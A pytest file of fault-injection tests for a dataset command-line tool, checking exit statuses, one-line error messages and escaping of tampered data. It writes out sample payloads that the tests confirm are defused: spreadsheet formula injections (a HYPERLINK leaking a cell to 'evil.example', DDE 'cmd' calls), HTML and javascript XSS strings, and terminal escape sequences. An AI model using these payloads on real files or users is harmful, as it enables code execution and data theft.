"""Fault injection for the command line: every way it ends is an exit status and a message, never a
traceback (unless --debug asks for one)."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import os
import shlex
import shutil
import subprocess
import sys

import pytest

import uis_build.__main__ as build_cli
import uk_iraq_security as uis
import uk_iraq_security.cli as cli
from conftest import ROOT

LOCALES = [{"PYTHONIOENCODING": "ascii"}, {"LANG": "C", "LC_ALL": "C"},
           {"LANG": "C", "LC_ALL": "C", "PYTHONIOENCODING": "ascii", "PYTHONUTF8": "0"}]
SHOW = [sys.executable, "-m", "uk_iraq_security.cli", "show"]


def _main(capsys, *args, main=cli.main):
    """A command line in this process (the installed one, or build_cli.main): main() must return, never raise."""
    code = main(list(args))
    out = capsys.readouterr()
    assert "Traceback" not in out.err
    return subprocess.CompletedProcess(args, code, out.out, out.err)


def _boom(exc):
    def raise_it(*args, **kwargs):
        raise exc
    return raise_it


@pytest.mark.parametrize("exc", [RuntimeError("kaput"), AttributeError("'NoneType' object has no attribute 'x'"),
                                 KeyError("resources"), TypeError("bad operand"), ZeroDivisionError("division by zero")])
def test_unexpected_error_is_one_line_naming_the_command_and_debug(monkeypatch, capsys, exc):
    monkeypatch.setattr(uis, "tables", _boom(exc))
    assert cli.main(["tables"]) == 1
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and "Traceback" not in err
    assert err.startswith("uk-iraq-security tables: unexpected error (") and type(exc).__name__ in err
    assert "--debug" in err and "report it at" in err


def test_debug_flag_shows_the_traceback(monkeypatch, capsys):
    monkeypatch.setattr(uis, "tables", _boom(RuntimeError("kaput")))
    assert cli.main(["--debug", "tables"]) == 1
    err = capsys.readouterr().err
    assert "Traceback (most recent call last)" in err and "RuntimeError: kaput" in err


def test_debug_environment_variable_shows_the_traceback(monkeypatch, capsys):
    monkeypatch.setattr(uis, "tables", _boom(RuntimeError("kaput")))
    monkeypatch.setenv("UK_IRAQ_SECURITY_DEBUG", "1")
    assert cli.main(["tables"]) == 1
    assert "Traceback" in capsys.readouterr().err


def test_interrupt_ends_with_130_and_one_line(monkeypatch, capsys):
    monkeypatch.setattr(uis, "tables", _boom(KeyboardInterrupt()))
    assert cli.main(["tables"]) == 130
    assert capsys.readouterr().err == "uk-iraq-security tables: interrupted\n"


def test_os_error_is_one_line(monkeypatch, capsys):
    monkeypatch.setattr(uis, "tables", _boom(PermissionError(13, "Permission denied", "/x/data/funding.parquet")))
    assert cli.main(["tables"]) == 1
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and "Permission denied" in err and "/x/data/funding.parquet" in err


def test_unknown_table_exits_2_with_the_valid_names(capsys):
    assert cli.main(["show", "nope"]) == 2
    err = capsys.readouterr().err
    assert "unknown table 'nope'" in err and "funding" in err


def test_release_metadata_outside_a_checkout_says_it_needs_one(capsys, tmp_path):
    done = _main(capsys, "release", "--write-metadata", "--root", str(tmp_path), main=build_cli.main)
    assert done.returncode == 1 and "release needs one" in done.stderr
    assert list(tmp_path.iterdir()) == []


def test_validate_of_a_missing_folder_is_a_message(capsys, tmp_path):
    done = _main(capsys, "validate", str(tmp_path / "nowhere"))
    assert done.returncode == 1 and "cannot read the package descriptor" in done.stderr


def test_validate_of_a_folder_with_a_truncated_table_lists_the_problem(capsys, tmp_path):
    for part in ("data", "schemas"):
        shutil.copytree(ROOT / part, tmp_path / part)
    (tmp_path / "datapackage.json").write_bytes((ROOT / "datapackage.json").read_bytes())
    (tmp_path / "data" / "funding.parquet").write_bytes(b"PAR1")
    done = _main(capsys, "validate", str(tmp_path))
    assert done.returncode == 1
    assert "data/funding.parquet" in done.stderr and "invalid:" in done.stdout


def test_build_of_a_missing_root_is_one_message(capsys, tmp_path):
    done = _main(capsys, "build", "--root", str(tmp_path / "nowhere"), main=build_cli.main)
    assert done.returncode == 1 and "no such folder" in done.stderr
    assert not (tmp_path / "nowhere").exists()


def test_validate_of_a_descriptor_with_broken_resources_is_a_message(capsys, tmp_path):
    (tmp_path / "datapackage.json").write_text('{"resources": [{"name": "funding"}]}', encoding="utf-8")
    done = _main(capsys, "validate", str(tmp_path))
    assert done.returncode == 1 and "resources[0] is not an object with 'name' and 'path'" in done.stderr


def test_release_outside_a_checkout_says_it_needs_one(capsys, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)  # --root: the current folder
    done = _main(capsys, "release", "--out", str(tmp_path / "dist"), main=build_cli.main)
    assert done.returncode == 1
    assert "is not a source checkout of uk-iraq-security" in done.stderr and "release needs one" in done.stderr
    assert list(tmp_path.iterdir()) == []


# -- in interpreters of their own: what only a real stdout shows ------------------------------------

def test_broken_pipe_ends_quietly():
    """The reader leaves before the output is written: the status a shell reports for a command stopped by
    SIGPIPE (141), and nothing on stderr. Every output format is one write (cli_output.emit), so one format
    stands for all. A reader that leaves in the middle of one large write is not tested: whether that write
    still lands in the pipe, or finds the reader gone, depends on timing (the status is 0 or 141)."""
    proc = subprocess.Popen([*SHOW, "citations"], stdin=subprocess.DEVNULL, stdout=subprocess.PIPE,
                            stderr=subprocess.PIPE)
    proc.stdout.close()  # before the command has written anything: it is still importing
    done = subprocess.CompletedProcess(proc.args, proc.wait(timeout=120), None, proc.stderr.read().decode())
    proc.stderr.close()
    assert done.returncode == 141  # 128 + SIGPIPE
    assert done.stderr == ""


def test_a_reader_that_leaves_after_the_output_ends_with_status_0():
    """`uk-iraq-security show citations | head -1; echo ${PIPESTATUS[0]}` as the docs show it: the output
    (one write, smaller than a pipe holds) is all written before `head` can leave, so the command ends 0 as
    `cat` would, with nothing on stderr."""
    command = f"{shlex.join(SHOW)} citations --rows 5 | head -1; echo ${{PIPESTATUS[0]}}"
    done = subprocess.run(["bash", "-c", command], capture_output=True, text=True, timeout=120,
                          env={**os.environ, "COLUMNS": "80"})
    first, status = done.stdout.splitlines()
    assert first.split()[0] == "quote" and status == "0" and done.stderr == ""


def test_a_control_character_in_the_data_reaches_the_terminal_escaped(installed, capsys):
    _set_cells(installed, "officials", "name", ["\x1b]0;owned\x07\x1b[2JName"])
    for layout in ([], ["--vertical"]):
        done = _main(capsys, "show", "officials", "--format", "csv", "--columns", "name", *layout)
        assert done.returncode == 0, done.stderr
        assert "\x1b" not in done.stdout and "\\x1b]0;owned\\x07\\x1b[2JName" in done.stdout


@pytest.mark.parametrize("env", LOCALES)
def test_output_works_in_an_ascii_or_c_locale(env):
    done = subprocess.run([*SHOW, "citations", "--where", "quote~world-first", "--columns", "quote", "--vertical"],
                          capture_output=True, text=True, encoding="utf-8", errors="replace", timeout=120,
                          env={**os.environ, **env})
    assert done.returncode == 0 and "Traceback" not in done.stderr, done.stderr
    assert "world-first" in done.stdout  # "“world-first”", its quote marks escaped or not


# -- an installed dataset that was tampered with or damaged (a copy the package reads instead) -----------



def _set_cells(root, table: str, column: str, values: list[str]) -> None:
    """Put `values` into the first rows of `column` of data/<table>.csv and record its new sha256 and size, as a
    hand-made copy would: the installed-file check passes, so what is shown is what a hostile file holds."""
    path = root / "data" / f"{table}.csv"
    with path.open(encoding="utf-8", newline="") as fh:
        rows = list(csv.DictReader(fh))
    for row, value in zip(rows, values):
        row[column] = value
    with path.open("w", encoding="utf-8", newline="") as fh:
        w = csv.DictWriter(fh, fieldnames=list(rows[0]), lineterminator="\n")
        w.writeheader()
        w.writerows(rows)
    pkg = json.loads((root / "datapackage.json").read_text(encoding="utf-8"))
    res = next(r for r in pkg["resources"] if r["name"] == table)
    res["hash"], res["bytes"] = "sha256:" + hashlib.sha256(path.read_bytes()).hexdigest(), path.stat().st_size
    (root / "datapackage.json").write_text(json.dumps(pkg), encoding="utf-8")


FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0",
            "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1"]  # (a cell starting "\r" is one pandas' reader splits)
PLAIN = ["-5", "+3.25", "-1e5"]


def test_csv_output_defuses_cells_a_spreadsheet_would_run(installed, capsys):
    _set_cells(installed, "officials", "name", FORMULAS + PLAIN)
    done = _main(capsys, "show", "officials", "--format", "csv", "--columns", "name", "--output", "csv")
    assert done.returncode == 0, done.stderr
    cells = [r[0] for r in csv.reader(io.StringIO(done.stdout))][1:]
    assert cells[:len(FORMULAS)] == ["'" + f for f in FORMULAS]  # shown as text, as written after the quote
    assert cells[len(FORMULAS):len(FORMULAS) + len(PLAIN)] == PLAIN  # a plain number is left alone
    exact = json.loads(_main(capsys, "show", "officials", "--format", "csv", "--columns", "name", "--output", "json").stdout)
    assert [r["name"] for r in exact[:len(FORMULAS)]] == FORMULAS  # json keeps every value exactly


def test_markdown_output_escapes_html_pipes_and_links(installed, capsys):
    hostile = ["<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "a | b", "[click](javascript:alert(1))",
               "&lt;b&gt; as written", "back\\slash | pipe"]
    _set_cells(installed, "officials", "name", hostile)
    done = _main(capsys, "show", "officials", "--format", "csv", "--columns", "name", "--output", "markdown")
    assert done.returncode == 0, done.stderr
    lines = done.stdout.splitlines()[2:2 + len(hostile)]
    assert lines == ["| &lt;script&gt;alert(1)&lt;/script&gt; |", "| &lt;img src=x onerror=alert(1)&gt; |", "| a \\| b |",
                     "| \\[click\\](javascript:alert(1)) |", "| &amp;lt;b&amp;gt; as written |", "| back\\\\slash \\| pipe |"]
    assert "<script" not in done.stdout and "<img" not in done.stdout


@pytest.mark.parametrize("columns, width", [("100000000", 1000), ("1e8", 80), ("-3", 80), ("wide", 80), ("", 80)])
def test_vertical_output_width_is_capped_and_a_bad_columns_is_the_default(monkeypatch, capsys, columns, width):
    monkeypatch.setenv("COLUMNS", columns)
    done = _main(capsys, "show", "funding", "--vertical", "--rows", "2")
    assert done.returncode == 0, done.stderr
    lines = done.stdout.splitlines()
    assert max(map(len, lines)) == width  # the record separator spans the width
    assert len(done.stdout) < 20_000


def test_truncated_installed_descriptor_is_one_clear_error(installed, capsys):
    data = (installed / "datapackage.json").read_bytes()
    (installed / "datapackage.json").write_bytes(data[:len(data) // 2])
    done = _main(capsys, "tables")
    assert done.returncode == 1
    assert "datapackage.json: not valid JSON" in done.stderr and "reinstall" in done.stderr
    assert "This is a bug" not in done.stderr and done.stderr.count("\n") == 1


def test_evidence_of_a_non_str_id_is_a_type_error_saying_what_is_expected():
    with pytest.raises(TypeError, match=r"evidence\(\): record_id must be a str such as .*not int 123"):
        uis.evidence(123)
    with pytest.raises(TypeError, match=r"table must be a str such as 'funding'"):
        uis.evidence(table=["funding"])


def test_output_naming_a_folder_is_a_usage_error(capsys, tmp_path):
    with pytest.raises(SystemExit) as info:
        cli.main(["show", "funding", "--output", str(tmp_path)])
    err = capsys.readouterr().err
    assert info.value.code == 2 and "invalid choice" in err and "Traceback" not in err


def test_site_root_with_a_truncated_descriptor_is_one_line(capsys, tmp_path):
    (tmp_path / "ds").mkdir()
    (tmp_path / "ds" / "datapackage.json").write_text('{"resources": [', encoding="utf-8")
    done = _main(capsys, "site", str(tmp_path / "out"), "--root", str(tmp_path / "ds"))
    assert done.returncode == 1 and "site failed:" in done.stderr and "not valid JSON" in done.stderr
    assert not (tmp_path / "out").exists()


@pytest.mark.parametrize("args", [["--version"], ["--help"], ["show", "--help"], ["cite"], ["tables"],
                                  ["show", "funding", "--output", "json"]])
def test_output_that_cannot_be_written_fails_with_one_line(args):
    """Standard output on /dev/full: what only a real process shows (argparse ignores a failed write of --help)."""
    with open("/dev/full", "w") as full:
        done = subprocess.run([sys.executable, "-m", "uk_iraq_security.cli", *args], stdout=full, stderr=subprocess.PIPE,
                              text=True, timeout=120)
    assert done.returncode == 1, done.stderr
    assert done.stderr.endswith("cannot write the output to standard output: No space left on device\n")
    assert done.stderr.count("\n") == 1 and "Traceback" not in done.stderr
